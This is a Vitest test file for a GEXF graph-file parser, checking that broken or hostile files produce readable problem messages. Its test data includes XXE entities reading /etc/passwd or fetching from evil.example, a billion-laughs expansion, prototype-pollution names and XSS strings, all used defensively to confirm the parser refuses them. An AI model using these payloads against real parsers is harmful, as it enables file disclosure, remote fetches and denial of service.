import { describe, expect, it } from 'vitest';
import { formatImportProblem } from '../shared/draft';
import { gexfText as gexf } from '../../test/gexfText';
import { parseGexf } from './read';

const problems = (draft: ReturnType<typeof parseGexf>) => draft.problems.map(formatImportProblem).join('\n');

describe('parseGexf', () => {
  describe('broken or hostile input gives problems, never a throw', () => {
    it('malformed XML, with its line', () => {
      const draft = parseGexf(
        '<gexf version="1.3">\n  <graph>\n    <nodes>\n      <node id="a">\n    </nodes>\n</gexf>',
        'x.gexf',
      );
      expect(problems(draft)).toMatch(/^x\.gexf, line 5: is not well-formed XML: Expected closing tag 'node'/);
      expect(draft.dataset.entities).toEqual([]);
    });

    it('an empty file', () => {
      expect(problems(parseGexf('', 'x.gexf'))).toBe('x.gexf: is empty');
      expect(problems(parseGexf('\uFEFF  \n', 'x.gexf'))).toBe('x.gexf: is empty');
    });

    it('XML that is not GEXF', () => {
      expect(problems(parseGexf('<graphml><graph/></graphml>', 'x.gexf'))).toBe(
        'x.gexf, line 1: is not GEXF: its root element is <graphml>, not <gexf>',
      );
    });

    it('a node without an id', () => {
      const draft = parseGexf(gexf('<node label="No id"/>\n<node id="b" label="B"/>'), 'x.gexf');
      expect(problems(draft)).toContain('x.gexf, line 5, node 1: has no id; the node is left out');
      expect(draft.dataset.entities.map((e) => e.id)).toEqual(['b']);
    });

    it('an edge to a node that is not in the file', () => {
      const draft = parseGexf(
        gexf('<node id="a" label="A"/>', '<edge id="e" source="a" target="ghost"/><edge id="f" source="a"/>'),
        'x.gexf',
      );
      expect(problems(draft)).toContain('edge "e": joins node "ghost", which is not in the file; the edge is left out');
      expect(problems(draft)).toContain('edge "f": lacks a source or a target; the edge is left out');
      expect(draft.dataset.links).toEqual([]);
    });

    it('duplicate node and edge ids', () => {
      const draft = parseGexf(
        gexf(
          '<node id="a" label="A"/>\n<node id="a" label="Again"/>\n<node id="b" label="B"/>',
          '<edge id="e" source="a" target="b"/><edge id="e" source="b" target="a"/>',
        ),
        'x.gexf',
      );
      expect(problems(draft)).toContain(
        'x.gexf, line 6, node "a": has the id "a" of an earlier node; the node is left out',
      );
      expect(problems(draft)).toContain('edge "e": has the id "e" of an earlier edge; the edge is left out');
      expect(draft.dataset.entities.map((e) => e.name)).toEqual(['A', 'B']);
      expect(draft.dataset.links.map((l) => l.source)).toEqual(['a']);
    });

    it('__proto__ and constructor as element, attribute and attribute-title names', () => {
      const text = gexf(
        '<node id="a" label="A" __proto__="x" constructor="y"><attvalues><attvalue for="constructor" value="polluted"/><attvalue for="__proto__" value="polluted"/></attvalues><__proto__><polluted/></__proto__></node>',
      ).replace(
        '<nodes>',
        '<attributes class="node"><attribute id="constructor" title="__proto__" type="string"/></attributes><nodes>',
      );
      const draft = parseGexf(text, 'x.gexf');
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
      expect(Object.prototype.constructor).toBe(Object);
      expect(draft.dataset.entities).toMatchObject([{ id: 'a', name: 'A', kind: 'company' }]);
      expect(problems(draft)).toContain('uses the name "__proto__" for an element or attribute; it is passed over');
    });

    it('HTML and script in labels stay plain text', () => {
      const draft = parseGexf(
        gexf(
          '<node id="a" label="&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;"/>',
        ),
        'x.gexf',
      );
      expect(draft.dataset.entities[0]!.name).toBe('<script>alert("x")</script><img src=x onerror=alert(1)>');
    });

    it('entities a DOCTYPE declares are not expanded', () => {
      const lol =
        '<!DOCTYPE gexf [<!ENTITY lol "lollollollollol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>\n';
      const draft = parseGexf(gexf('<node id="a" label="&lol2;"/>', '', lol), 'x.gexf');
      expect(draft.dataset.entities[0]!.name).toBe('&lol2;');
    });

    it.each([
      [
        'a SYSTEM entity',
        '<!DOCTYPE gexf [\n<!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n',
        'x.gexf, line 3: declares an entity read from another file or address (SYSTEM or PUBLIC) in its DOCTYPE; this app reads nothing but the file itself, so the file is not read',
      ],
      [
        'a PUBLIC entity',
        '<!DOCTYPE gexf [\n<!ENTITY x "y">\n<!ENTITY remote PUBLIC "-//EVIL//X" "http://evil.example/x">\n]>\n',
        'x.gexf, line 4: declares an entity read from another file or address (SYSTEM or PUBLIC) in its DOCTYPE; this app reads nothing but the file itself, so the file is not read',
      ],
      [
        'a parameter entity',
        '<!DOCTYPE gexf [\n<!ENTITY % p SYSTEM "http://evil.example/dtd">\n%p;\n]>\n',
        'x.gexf, line 3: declares a parameter entity (<!ENTITY % …>) in its DOCTYPE, which this app does not expand; the file is not read',
      ],
    ])('%s in the DOCTYPE refuses the file, saying why and where', (_, doctype, expected) => {
      const draft = parseGexf(gexf('<node id="a" label="&xxe;"/>', '', doctype), 'x.gexf');
      expect(problems(draft)).toBe(expected);
      expect(draft.dataset.entities).toEqual([]);
    });

    it('nodes nested past the depth the reader allows are refused in words', () => {
      const nested = `<node id="n0">${'<nodes><node id="n">'.repeat(60)}${'</node></nodes>'.repeat(60)}</node>`;
      expect(problems(parseGexf(gexf(nested), 'x.gexf'))).toBe(
        'x.gexf: nests elements more than 100 levels deep; this app reads no deeper, so the file is not read',
      );
    });

    it('a Supply Lines record that is not valid JSON: the readable attributes still import', () => {
      const text = gexf(
        '<node id="a" label="A"><attvalues><attvalue for="kind" value="person"/><attvalue for="supply_lines" value="{oops"/></attvalues></node>',
      ).replace(
        '<nodes>',
        '<attributes class="node"><attribute id="kind" title="kind" type="string"/><attribute id="supply_lines" title="supply_lines" type="string"/></attributes><nodes>',
      );
      const draft = parseGexf(text, 'x.gexf');
      expect(problems(draft)).toContain('node "a": the "supply_lines" record is not valid JSON');
      expect(draft.dataset.entities).toMatchObject([{ id: 'a', kind: 'person' }]);
    });
  });
});

describe('parseGexf against a flood of attributes', () => {
  it('refuses a file that declares thousands of attributes', () => {
    const attributes = Array.from(
      { length: 3000 },
      (_, i) => `<attribute id="${i}" title="a${i}" type="string"><default>x</default></attribute>`,
    ).join('');
    const draft = parseGexf(
      `<gexf xmlns="http://gexf.net/1.3" version="1.3"><graph><attributes class="node">${attributes}</attributes><nodes><node id="a"/></nodes></graph></gexf>`,
      'flood.gexf',
    );
    expect(draft.problems.map(formatImportProblem)).toEqual([
      'flood.gexf: declares 3,000 attributes; a file this app reads declares at most 500',
    ]);
  });
});
